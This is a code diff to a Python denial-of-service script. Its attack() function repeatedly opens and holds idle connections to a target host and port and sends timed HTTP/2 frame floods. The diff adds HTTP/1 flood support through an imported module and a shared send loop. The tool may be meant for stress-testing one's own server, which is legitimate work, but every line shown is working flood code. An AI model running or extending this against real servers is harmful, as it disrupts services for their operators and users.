@@ -12,6 +12,8 @@ from collections.abc import Callable, Iterator
 from contextlib import suppress
 from pathlib import Path
 
+import http1
+
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 END_STREAM, ACK, END_HEADERS = 1, 1, 4
@@ -208,17 +210,19 @@ def attack(
 ) -> None:
     """Floods a port for so long: connects, sends a flood for 3 s, and begins with the next.
 
-    kind: "http2", or another protocol: then only connections that do nothing. turn: the first one.
+    kind: "http2", "http", or another protocol: then only connections that do nothing. turn: the
+    first one.
     """
     end = time.monotonic() + seconds
-    names = ["silence", *FLOODS]
+    others = FLOODS if kind == "http2" else http1.FLOODS if kind == "http" else ()
+    names = ["silence", *others]
     host, _, port = address.rpartition(":")
     held: deque[socket.socket] = deque()
     while time.monotonic() < end:
         turn += 1
         name = names[turn % len(names)]
         with suppress(OSError):
-            if name == "silence" or kind != "http2":
+            if name == "silence":
                 for _ in range(32):
                     idle = socket.create_connection((host, int(port)), 2)
                     idle.sendall(b"\x16\x03" if ca else b"PRI" if kind == "http2" else b"GET /")
@@ -227,13 +231,24 @@ def attack(
                     held.popleft().close()
                 time.sleep(0.05)
                 continue
-            raw = Raw(address, ca=ca, own=own, seconds=2)
             until = min(end, time.monotonic() + 3)
-            for data in FLOODS[name](raw, path):
-                raw.send(data)
-                if time.monotonic() > until:
-                    break
+            if kind == "http":
+                with http1.connect(address, ca, 2) as connection:
+                    _send(http1.FLOODS[name](), connection.sendall, until)
+                continue
+            raw = Raw(address, ca=ca, own=own, seconds=2)
+            _send(FLOODS[name](raw, path), raw.send, until)
             raw.close()
+
+
+def _send(flood: Iterator[bytes], send: Callable[[bytes], object], until: float) -> None:
+    for data in flood:
+        if data:
+            send(data)
+        else:  # the connection is held
+            time.sleep(0.05)
+        if time.monotonic() > until:
+            return
 
 
 if __name__ == "__main__":
